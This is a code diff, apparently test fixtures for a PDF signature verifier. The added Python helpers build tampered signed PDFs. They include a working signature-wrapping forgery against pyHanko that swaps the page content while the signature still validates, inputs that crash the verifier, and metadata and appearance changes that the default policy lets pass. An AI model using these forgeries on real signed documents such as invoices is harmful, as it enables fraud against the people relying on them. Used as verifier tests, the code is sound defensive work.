@@ -123,3 +123,198 @@ def shadow_hide_and_replace(pdf: bytes) -> bytes:
 
 def truncated(pdf: bytes) -> bytes:
     return pdf[: len(pdf) * 2 // 3]
+
+
+# Signature wrapping through a literal-string /Contents ------------------------------------
+
+def _byte_range(pdf: bytes, index: int = 0) -> tuple[int, int, int, int]:
+    found = re.findall(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", pdf)
+    return tuple(int(n) for n in found[index])  # type: ignore[return-value]
+
+
+def _literal(data: bytes) -> bytes:
+    """A PDF literal string body for `data` (ISO 32000-1, 7.3.4.2): escape ( ) \\ and CR."""
+    out = bytearray()
+    for byte in data:
+        if byte in b"()\\":
+            out += b"\\" + bytes([byte])
+        elif byte == 0x0D:
+            out += b"\\r"
+        else:
+            out.append(byte)
+    return bytes(out)
+
+
+def literal_contents(pdf: bytes, index: int = 0, *, forged: bytes = FORGED) -> bytes:
+    """Re-encode signature `index`'s /Contents as a literal string padded with NULs, so that
+    pyHanko's size equation (twice the decoded length plus two) counts a new revision appended
+    after the signed bytes as part of "the entire file"; the new revision replaces the page.
+
+    Everything after the signature's own revision (e.g. a document time-stamp) is cut first.
+    """
+    _, first, second, length = _byte_range(pdf, index)
+    pdf = pdf[:second + length]
+    der = bytes.fromhex(pdf[first + 1:second - 1].decode("ascii")).rstrip(b"\0")
+    encoded = _literal(der)
+    gap = second - first
+    padding = gap - 2 - len(encoded)
+    assert padding > 0
+    body = pdf[:first] + b"(" + encoded + b"\0" * padding + b")" + pdf[second:]
+    target = first + length + 2 * (len(der) + padding) + 2  # what pyHanko calls the whole file
+
+    def update(pad: int) -> bytes:
+        writer = _writer(body)
+        _, page = _page(writer)
+        page[N("/Contents")] = writer.add_object(generic.StreamObject(stream_data=forged))
+        writer.update_container(page)
+        writer.add_object(generic.StreamObject(stream_data=b"%" * pad))
+        return _out(writer)
+
+    pad = 0
+    for _ in range(6):
+        out = update(pad)
+        if 0 <= target - len(out) <= 2:
+            return out + b"\n" * (target - len(out))
+        pad += target - len(out)
+    raise AssertionError("could not size the appended revision")
+
+
+# Shapes that used to crash the verifier ----------------------------------------------------
+
+def _replace_cms(pdf: bytes, transform, index: int = 0) -> bytes:
+    """Swap signature `index`'s CMS for `transform(cms)`, hex-encoded into the same gap."""
+    from asn1crypto import cms
+
+    _, first, second, _ = _byte_range(pdf, index)
+    der = bytes.fromhex(pdf[first + 1:second - 1].decode("ascii"))
+    info = cms.ContentInfo.load(der)
+    new = transform(info).dump().hex().encode()
+    width = second - first - 2
+    assert len(new) <= width
+    return pdf[:first + 1] + new + b"0" * (width - len(new)) + pdf[second - 1:]
+
+
+def without_signer_certificate(pdf: bytes) -> bytes:
+    """The CMS with its certificates removed (the signer's certificate cannot be found)."""
+    from asn1crypto import cms
+
+    def strip(info):
+        signed = info["content"]
+        fields = {name: signed[name] for name in ("version", "digest_algorithms",
+                                                   "encap_content_info", "signer_infos")}
+        return cms.ContentInfo({"content_type": "signed_data",
+                                "content": cms.SignedData(fields)})
+
+    return _replace_cms(pdf, strip)
+
+
+def cyclic_field_tree(pdf: bytes) -> bytes:
+    """A form field that is its own kid (ISO 32000-1, 12.7.3.1 forbids it)."""
+    writer = _writer(pdf)
+    field = generic.DictionaryObject({N("/T"): generic.TextStringObject("Bucle")})
+    ref = writer.add_object(field)
+    field[N("/Kids")] = generic.ArrayObject([ref])
+    form = writer.root.get("/AcroForm")
+    if form is None:
+        writer.root[N("/AcroForm")] = writer.add_object(generic.DictionaryObject(
+            {N("/Fields"): generic.ArrayObject([ref])}))
+        writer.update_root()
+    else:
+        form = form.get_object()
+        form[N("/Fields")].append(ref)
+        writer.update_container(form)
+    return _out(writer)
+
+
+def deep_field_tree(pdf: bytes, depth: int = 5000) -> bytes:
+    """A chain of `depth` nested form fields."""
+    writer = _writer(pdf)
+    child = writer.add_object(generic.DictionaryObject({N("/T"): generic.TextStringObject("f"),
+                                                        N("/FT"): N("/Sig")}))
+    for _ in range(depth):
+        child = writer.add_object(generic.DictionaryObject({
+            N("/T"): generic.TextStringObject("f"), N("/Kids"): generic.ArrayObject([child])}))
+    form = writer.root.get("/AcroForm")
+    if form is None:
+        writer.root[N("/AcroForm")] = writer.add_object(generic.DictionaryObject(
+            {N("/Fields"): generic.ArrayObject([child])}))
+        writer.update_root()
+    else:
+        form = form.get_object()
+        form[N("/Fields")].append(child)
+        writer.update_container(form)
+    return _out(writer)
+
+
+def eof_bomb(pdf: bytes, markers: int) -> bytes:
+    """`pdf` plus an incremental update holding a stream of `markers` %%EOF lines: a valid
+    PDF whose bytes are nearly all revision markers."""
+    writer = _writer(pdf)
+    writer.root[N("/CedulaBomb")] = writer.add_object(
+        generic.StreamObject(stream_data=b"%%EOF\n" * markers))
+    writer.update_root()
+    return _out(writer)
+
+
+# Shadow changes that pyHanko's default policy lets pass --------------------------------------
+
+def _update_root(pdf: bytes, change) -> bytes:
+    writer = _writer(pdf)
+    change(writer, writer.root)
+    writer.update_root()
+    return _out(writer)
+
+
+def need_appearances(pdf: bytes) -> bytes:
+    """Switch /NeedAppearances on: viewers redraw every field from its stored value."""
+    def change(writer, root):
+        form = root["/AcroForm"]
+        form[N("/NeedAppearances")] = generic.BooleanObject(True)
+        if isinstance(root.raw_get("/AcroForm"), generic.IndirectObject):
+            writer.update_container(form)
+    return _update_root(pdf, change)
+
+
+def form_default_appearance(pdf: bytes) -> bytes:
+    def change(writer, root):
+        form = root["/AcroForm"]
+        form[N("/DA")] = generic.TextStringObject("/Helv 0 Tf 1 1 1 rg")  # white text
+        if isinstance(root.raw_get("/AcroForm"), generic.IndirectObject):
+            writer.update_container(form)
+    return _update_root(pdf, change)
+
+
+def info_title(pdf: bytes) -> bytes:
+    """Give the document information dictionary a new title."""
+    writer = _writer(pdf)
+    info = writer.trailer["/Info"]
+    info[N("/Title")] = generic.TextStringObject("Factura pagada")
+    writer.update_container(info)
+    return _out(writer)
+
+
+def false_pdfa_claim(pdf: bytes) -> bytes:
+    xmp = (b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>'
+           b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
+           b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
+           b'<rdf:Description rdf:about="" xmlns:pdfaid="http://www.aiim.org/pdfa/ns/id/">'
+           b'<pdfaid:part>3</pdfaid:part><pdfaid:conformance>A</pdfaid:conformance>'
+           b'</rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>')
+
+    def change(writer, root):
+        from pyhanko.pdf_utils.metadata.xmp_xml import MetadataStream
+
+        root[N("/Metadata")] = writer.add_object(MetadataStream(stream_data=xmp))
+    return _update_root(pdf, change)
+
+
+def mark_info(pdf: bytes) -> bytes:
+    return _update_root(pdf, lambda writer, root: root.__setitem__(
+        N("/MarkInfo"), generic.DictionaryObject({N("/Marked"): generic.BooleanObject(True)})))
+
+
+def catalog_version(pdf: bytes) -> bytes:
+    """Change the catalog's /Version (which overrides the header, ISO 32000-1, 7.7.2)."""
+    def change(writer, root):
+        root[N("/Version")] = N("/1.7" if root.get("/Version") == "/2.0" else "/2.0")
+    return _update_root(pdf, change)
